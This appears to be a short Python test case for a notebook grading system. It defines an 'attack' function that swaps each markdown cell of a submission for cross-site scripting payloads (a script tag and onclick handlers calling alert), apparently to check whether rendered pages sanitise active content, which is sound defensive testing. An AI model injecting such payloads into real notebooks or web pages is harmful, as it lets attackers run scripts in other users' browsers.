"""The instructor's Markdown cell, and the headings between questions, are replaced by scripts.

Success: active content in a page.
"""


def attack(submission):
    for cell in submission.cells:
        if cell.cell_type == "markdown":
            cell.source = (
                "# <script>alert(1)</script> {onclick=alert(1)}\n<h1 onclick=alert(1)>x</h1>"
            )
